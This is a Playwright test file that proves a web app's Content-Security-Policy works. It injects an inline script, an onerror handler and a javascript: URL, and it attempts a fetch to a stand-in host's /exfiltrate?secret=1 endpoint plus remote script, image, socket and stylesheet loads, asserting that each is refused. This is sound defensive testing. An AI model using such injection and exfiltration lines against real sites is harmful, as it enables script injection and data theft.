import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';

// The page's Content-Security-Policy, proven in the browser: injected scripts do not run and
// nothing is fetched from anywhere but the app's own origin. Every attempt is caught by the
// CSP itself — the browser reports a violation — and never reaches the network: a route on
// every non-local URL records any request that gets that far.

const REMOTE = 'https://example.org';

/** Requests that left for anywhere but the app itself (there must be none). */
async function watchRemote(page: Page): Promise<string[]> {
  const escaped: string[] = [];
  await page.route(
    (url) => url.hostname !== '127.0.0.1',
    (route) => {
      escaped.push(route.request().url());
      return route.abort();
    },
  );
  return escaped;
}

/** The CSP violations the page reported (the fixture logs each as a console error). */
function takeViolations(problems: string[]): string[] {
  const violations = problems.filter((p) => p.startsWith('CSP violation:'));
  // Chromium also explains each refusal in the console; those lines are expected here.
  const rest = problems.filter(
    (p) =>
      !p.startsWith('CSP violation:') &&
      !/violates the (following|document's) Content Security Policy/.test(p),
  );
  problems.splice(0, problems.length, ...rest);
  return violations;
}

/** Waits until the page has reported a violation of each directive; returns them all. */
async function violationsOf(problems: string[], directives: string[]): Promise<string[]> {
  const violations: string[] = [];
  await expect
    .poll(
      () => {
        violations.push(...takeViolations(problems));
        return directives.filter(
          (directive) => !violations.some((v) => v.startsWith(`CSP violation: ${directive} `)),
        );
      },
      { timeout: 5000 },
    )
    .toEqual([]);
  return violations;
}

test('the Content-Security-Policy refuses injected inline script', async ({ page, problems }) => {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const escaped = await watchRemote(page);

  await page.evaluate(() => {
    // An inline <script>, an inline event handler and a javascript: URL — the three ways
    // markup smuggled into a page would try to run.
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML =
      '<img alt="" src="data:image/png;base64,AAAA" onerror="window.__handlerRan = true">';
    document.body.append(holder);
    const link = document.createElement('a');
    link.href = 'javascript:window.__urlRan = true';
    link.textContent = 'x';
    document.body.append(link);
    link.click();
  });
  const violations = await violationsOf(problems, ['script-src-elem', 'script-src-attr']);
  for (const violation of violations) expect(violation).toMatch(/^CSP violation: script-src/);
  const ran = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    return { inline: w.__inlineRan, handler: w.__handlerRan, url: w.__urlRan };
  });
  expect(ran).toEqual({ inline: undefined, handler: undefined, url: undefined });
  expect(escaped).toEqual([]);
});

test('the Content-Security-Policy refuses every request to a remote origin', async ({
  page,
  problems,
}) => {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const escaped = await watchRemote(page);

  const outcomes = await page.evaluate(async (remote) => {
    const fetched = await fetch(`${remote}/exfiltrate?secret=1`).then(
      () => 'fetched',
      (error: Error) => `refused: ${error.name}`,
    );
    const image = await new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('refused');
      img.src = `${remote}/pixel.png`;
    });
    const script = await new Promise<string>((resolve) => {
      const s = document.createElement('script');
      s.onload = () => resolve('loaded');
      s.onerror = () => resolve('refused');
      s.src = `${remote}/payload.js`;
      document.head.append(s);
    });
    const socket = await new Promise<string>((resolve) => {
      try {
        const ws = new WebSocket('wss://example.org/socket');
        ws.onopen = () => resolve('open');
        ws.onerror = () => resolve('refused');
      } catch (error) {
        resolve(`refused: ${(error as Error).name}`);
      }
    });
    const style = await new Promise<string>((resolve) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${remote}/style.css`;
      link.onload = () => resolve('loaded');
      link.onerror = () => resolve('refused');
      document.head.append(link);
    });
    return { fetched, image, script, socket, style };
  }, REMOTE);

  expect(outcomes).toEqual({
    fetched: 'refused: TypeError',
    image: 'refused',
    script: 'refused',
    socket: expect.stringMatching(/^refused/),
    style: 'refused',
  });
  // Each refusal was the policy's, directive by directive, not a network failure.
  const violations = await violationsOf(problems, [
    'connect-src',
    'img-src',
    'script-src-elem',
    'style-src-elem',
  ]);
  for (const violation of violations) expect(violation).toMatch(/ (https|wss):\/\/example\.org/);
  expect(escaped).toEqual([]);
});
